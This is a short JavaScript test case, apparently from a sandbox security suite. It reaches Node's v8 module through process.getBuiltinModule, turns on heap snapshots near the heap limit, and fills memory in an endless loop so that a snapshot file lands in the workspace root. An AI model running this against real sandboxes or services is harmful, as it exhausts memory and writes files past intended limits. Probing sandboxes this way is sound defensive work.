/* @attack {"title": "v8 through process.getBuiltinModule (never patched): setHeapSnapshotNearHeapLimit, fill the heap; a heap snapshot lands in the workspace root", "args": ["--memory", "32"]} */
const v8 = process.getBuiltinModule('v8');
v8.setHeapSnapshotNearHeapLimit(1);
const keep = [];
for (;;) keep.push({ n: keep.length, s: `filler ${keep.length}`, a: [1, 2, 3] });
